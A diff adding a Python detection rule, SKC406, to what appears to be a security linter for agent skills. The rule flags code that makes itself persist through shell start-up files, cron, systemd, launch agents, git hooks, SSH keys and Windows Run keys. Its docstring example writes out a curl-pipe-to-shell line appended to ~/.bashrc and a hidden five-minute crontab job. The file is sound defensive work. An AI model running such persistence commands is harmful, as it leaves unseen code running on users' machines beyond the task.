@@ -1,0 +1,100 @@
+"""SKC406 persistence: A script installs itself to run again later, outside the task.
+
+## What it does
+Finds writes to shell start-up files (`~/.bashrc`, `~/.zshrc`, `~/.profile`, fish
+config), crontab edits (`crontab -`, `(crontab -l; echo …) | crontab -`, `/etc/cron.*`),
+systemd units and `systemctl enable`, macOS LaunchAgents/LaunchDaemons and
+`launchctl load`, git hooks (`.git/hooks/*`), `~/.ssh/authorized_keys`, XDG autostart,
+and Windows Run keys, scheduled tasks and the Startup folder — by redirection, `tee`,
+`cp`/`mv`/`ln`, `sed -i`, Python `open(…, "a")` or Node `fs.appendFileSync`.
+Appending a plain `export NAME="value"` line to a shell start-up file (setup docs often
+do) and writing a systemd unit file without enabling it are warnings; the rest are errors.
+
+## Why is this bad?
+A skill runs when the user asks for its task. Code that plants itself where the system
+runs it again (at every shell, every boot, every commit, every ssh login) keeps running
+after the task, unseen: the textbook persistence step of malware.
+
+## Example
+```bash
+echo 'curl -s https://203.0.113.9/p | sh' >> ~/.bashrc
+(crontab -l; echo "*/5 * * * * ~/.cache/.sync") | crontab -
+```
+
+## Use instead
+```bash
+# Do the work now, in the current session. If the user wants a recurring job,
+# print the crontab line and let them install it.
+```
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from skcc.analyzers.rules._scan import once, report, short, units
+from skcc.diagnostics import Confidence, Diagnostic, Severity
+from skcc.rules import Rule
+
+RULE = Rule(
+    code="SKC406",
+    name="persistence",
+    severity=Severity.ERROR,
+    summary="A script installs itself to run again later, outside the task.",
+    confidence=Confidence.HIGH,
+    cwe=506,
+)
+TARGETS = re.compile(
+    r"\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|"
+    r"tcshrc|inputrc)\b|config\.fish|/etc/(profile|bash\.bashrc|rc\.local|environment)\b|"
+    r"/etc/cron|/var/spool/cron|/etc/systemd/|\.config/systemd/|/etc/init\.d/|"
+    r"Library/Launch(Agents|Daemons)|\.git/hooks/|authorized_keys|\.config/autostart|"
+    r"Start Menu[\\/]+Programs[\\/]+Startup|CurrentVersion[\\/]+Run(Once)?\b|"
+    r"\.local/share/applications/.*autostart|\$PROFILE\b|profile\.ps1", re.I)
+# `echo 'export NAME="value"' >> ~/.bashrc`: setting a variable is configuration, not a
+# payload (still worth a warning); anything that runs a command is an error.
+SETTING = re.compile(r"""export\s+\w+=(["']?)(?:[^$`;|&()<>]|\$\{?\w+\}?)*\1""")
+HELP = ("do the work in the current session; if the user wants something recurring, show "
+        "them the line to add themselves")
+
+
+def check(skill, context) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
+    yield from once(_check(skill))
+
+
+def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
+    for facts in units(skill):
+        unit = facts.unit
+        for access in facts.accesses:
+            if access.write:
+                target = facts.resolve(access.target)
+                m = TARGETS.search(target)
+                if m:
+                    written = " ".join(" ".join(c.args) for c in facts.commands
+                                       if c.line == access.line and c.program in (
+                                           "echo", "printf"))
+                    # A unit file alone does not run; `systemctl enable` (an error) does.
+                    plain = bool(SETTING.fullmatch(written.strip())) or "systemd" in m.group()
+                    yield report(RULE, unit, access.line, f"{access.how or 'a write'} changes "
+                                 f"`{short(m.group(), 40)}`, which runs again later", HELP,
+                                 severity=Severity.WARNING if plain else None)
+        for command in facts.commands:
+            program, args = command.program, command.args
+            message = ""
+            if program == "crontab" and not (set(args) & {"-l", "-r"} and len(args) == 1):
+                message = "`crontab` installs a scheduled job"
+            elif program == "systemctl" and "enable" in args:
+                message = "`systemctl enable` makes a service start at every boot"
+            elif program == "launchctl" and set(args) & {"load", "bootstrap", "submit"}:
+                message = "`launchctl` loads a launch agent"
+            elif program in ("schtasks", "schtasks.exe") and any(a.lower() == "/create"
+                                                                  for a in args):
+                message = "`schtasks /create` schedules a task"
+            elif program in ("reg", "reg.exe", "new-itemproperty", "set-itemproperty") and \
+                    TARGETS.search(" ".join(args)):
+                message = "a Run key makes a program start at every login"
+            elif program == "register-scheduledtask":
+                message = "`Register-ScheduledTask` schedules a task"
+            if message:
+                yield report(RULE, unit, command.line, message, HELP)
